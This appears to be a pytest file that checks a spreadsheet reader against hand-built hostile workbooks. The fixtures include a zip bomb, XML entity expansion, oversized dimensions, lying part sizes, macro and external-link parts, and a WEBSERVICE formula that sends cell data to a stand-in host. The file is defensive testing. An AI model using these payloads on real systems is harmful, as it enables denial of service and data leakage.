"""Hostile workbooks are refused, or read safely, within a memory bound and without a traceback."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import pytest

from cchc_analysis.io.cases.exports import read_cases
from tests.cases import memory
from tests.cases.exports import HEADINGS, rows, write_xlsx

MEMORY_MB = 500
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'  # fmt: skip
ROOT_RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'  # fmt: skip
BOOK = '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="DS" sheetId="1" r:id="rId1"/></sheets></workbook>'  # fmt: skip
BOOK_RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'  # fmt: skip


def text_cell(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def good_rows() -> str:
    lines = [HEADINGS, *rows(3)]
    return "".join(
        f'<row r="{r}">' + "".join(text_cell(f"{chr(65 + c)}{r}", str(cell)) for c, cell in enumerate(line)) + "</row>"
        for r, line in enumerate(lines, 1)
    )


def workbook(path: Path, sheet: str | None = None, extra: dict[str, bytes] | None = None, head: str = "") -> Path:
    """A workbook written by hand; ``sheet`` is the inside of ``sheetData``."""
    body = good_rows() if sheet is None else sheet
    page = f'<?xml version="1.0"?>{head}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{body}</sheetData></worksheet>'
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": BOOK,
        "xl/_rels/workbook.xml.rels": BOOK_RELS,
        "xl/worksheets/sheet1.xml": page,
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**parts, **(extra or {})}.items():
            archive.writestr(name, content)
    return path


def read_in_a_bounded_process(path: Path) -> tuple[int, list[str], float]:
    """Rows accepted, codes found and peak memory (MB), read in a process of its own."""
    code = (
        "import sys\nfrom pathlib import Path\nfrom cchc_analysis.io.cases.exports import read_cases\n"
        "done = read_cases(Path(sys.argv[1]))\nn = sum(len(p) for p in done.batches())\nprint(n, ','.join(f.code for f in done.findings) or '-')"
    )
    (accepted, codes), peak = memory.run(code, str(path))
    return int(accepted), codes.split(","), peak


def test_the_workbook_written_by_hand_is_a_good_one(tmp_path: Path) -> None:
    assert len(read_cases(workbook(tmp_path / "a.xlsx")).frame()) == 3


def hostile(path: Path, name: str) -> Path:
    if name == "zip bomb":
        return workbook(path, extra={"xl/worksheets/sheet2.xml": b" " * 300_000_000})
    if name == "two far corners":
        return workbook(path, good_rows() + '<row r="1048576">' + text_cell("XFD1048576", "x") + "</row>")
    if name == "a million empty columns":
        return workbook(path, good_rows() + '<row r="5">' + "".join(f'<c r="{_letters(c)}5"/>' for c in range(1, 1_000_000)) + "</row>")
    if name == "columns beyond Excel":
        return workbook(path, good_rows() + '<row r="5">' + text_cell("ZZZZZ999999999", "x") + "</row>")
    if name == "entities":
        return workbook(path, head='<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>')
    if name == "many parts":
        return workbook(path, extra={f"xl/media/{i}.bin": b"x" for i in range(6000)})
    raise ValueError(name)


def _letters(number: int) -> str:
    text = ""
    while number:
        number, rest = divmod(number - 1, 26)
        text = chr(65 + rest) + text
    return text


@pytest.mark.parametrize(
    "name", ["zip bomb", "two far corners", "a million empty columns", "columns beyond Excel", "entities", "many parts"]
)
def test_a_hostile_workbook_is_refused_within_a_memory_bound(tmp_path: Path, name: str) -> None:
    accepted, codes, peak = read_in_a_bounded_process(hostile(tmp_path / "a.xlsx", name))
    assert (accepted, codes) == (0, ["tep-hs-qua-lon"])
    assert peak < MEMORY_MB


def test_a_part_that_lies_about_its_size_is_refused(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", extra={"xl/worksheets/sheet2.xml": b" " * 5_000_000})
    data = bytearray(path.read_bytes())
    true, lie = (5_000_000).to_bytes(4, "little"), (5_000).to_bytes(4, "little")
    assert data.count(true) == 2
    path.write_bytes(data.replace(true, lie))
    accepted, codes, peak = read_in_a_bounded_process(path)
    assert accepted == 0
    assert set(codes) <= {"tep-hs-khong-doc-duoc", "tep-hs-qua-lon"}
    assert peak < MEMORY_MB


def test_a_dimension_that_lies_takes_no_memory(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    page = f'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>{good_rows()}</sheetData></worksheet>'
    workbook(path, extra={})
    rewritten = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(rewritten, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, page if name.endswith("sheet1.xml") else old.read(name))
    path.write_bytes(rewritten.getvalue())
    accepted, _, peak = read_in_a_bounded_process(path)
    assert accepted == 3
    assert peak < MEMORY_MB


def test_formulas_macros_and_links_are_never_run_and_said(tmp_path: Path) -> None:
    formula = '<c r="M2"><f>WEBSERVICE("http://example.invalid/"&amp;D2)</f><v>5</v></c>'
    body = good_rows().replace("</row>", formula + "</row>", 2).replace(formula, "", 1)
    path = workbook(tmp_path / "a.xlsx", body, {"xl/vbaProject.bin": b"macro", "xl/externalLinks/externalLink1.xml": b"<x/>"})
    done = read_cases(path)
    assert len(done.frame()) == 3
    assert {f.code for f in done.findings} >= {"tep-hs-cong-thuc", "tep-hs-macro", "tep-hs-lien-ket"}
    assert not done.faulty


def test_a_number_without_end_is_told_and_breaks_nothing(tmp_path: Path) -> None:
    for column in "BDHI":
        body = good_rows().replace(
            text_cell(f"{column}4", str(rows(3)[2]["ABCDEFGHI".index(column)])), f'<c r="{column}4"><v>1E999</v></c>'
        )
        done = read_cases(workbook(tmp_path / f"{column}.xlsx", body))
        assert len(done.frame()) == (3 if column == "B" else 2)
    total = '<row r="5">' + text_cell("B5", "TỔNG CỘNG") + '<c r="D5"><v>1E999</v></c></row>'
    assert len(read_cases(workbook(tmp_path / "tong.xlsx", good_rows() + total)).frame()) == 3


def test_a_formula_without_a_stored_result_is_a_missing_value(tmp_path: Path) -> None:
    body = good_rows().replace(text_cell("H3", rows(3)[1][7]), '<c r="H3"><f>TODAY()</f></c>')
    done = read_cases(workbook(tmp_path / "a.xlsx", body))
    assert len(done.frame()) == 2
    assert [f.cell for f in done.findings if f.code == "hs-thieu-ngay-nhan"] == ["H3"]


def test_an_error_cell_is_told_with_its_place(tmp_path: Path) -> None:
    body = good_rows().replace(text_cell("I4", rows(3)[2][8]), '<c r="I4" t="e"><f>1/0</f><v>#DIV/0!</v></c>')
    done = read_cases(workbook(tmp_path / "a.xlsx", body))
    done.frame()
    assert [(f.cell, f.found) for f in done.findings if f.code == "hs-loi-cong-thuc"] == [("I4", "#DIV/0!")]


@pytest.mark.parametrize("missing", ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml", "[Content_Types].xml"])
def test_a_workbook_that_lacks_a_part(tmp_path: Path, missing: str) -> None:
    path = workbook(tmp_path / "a.xlsx")
    rewritten = io.BytesIO()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(rewritten, "w") as new:
        for name in old.namelist():
            if name != missing:
                new.writestr(name, old.read(name))
    path.write_bytes(rewritten.getvalue())
    done = read_cases(path)
    frame = done.frame()
    assert done.faulty or len(frame) == 3


def test_any_cut_of_a_workbook_is_no_traceback(tmp_path: Path) -> None:
    whole = write_xlsx(tmp_path / "a.xlsx", [HEADINGS, *rows(3)]).read_bytes()
    for cut in range(0, len(whole), 211):
        path = tmp_path / "cut.xlsx"
        path.write_bytes(whole[:cut])
        done = read_cases(path)
        done.frame()
        assert done.faulty


def test_any_changed_byte_of_a_workbook_is_no_traceback(tmp_path: Path) -> None:
    whole = workbook(tmp_path / "a.xlsx").read_bytes()
    for place in range(0, len(whole), 37):
        path = tmp_path / "changed.xlsx"
        path.write_bytes(whole[:place] + bytes([whole[place] ^ 0xFF]) + whole[place + 1 :])
        done = read_cases(path)
        done.frame()
        assert done.accepted + done.set_aside == done.rows_read
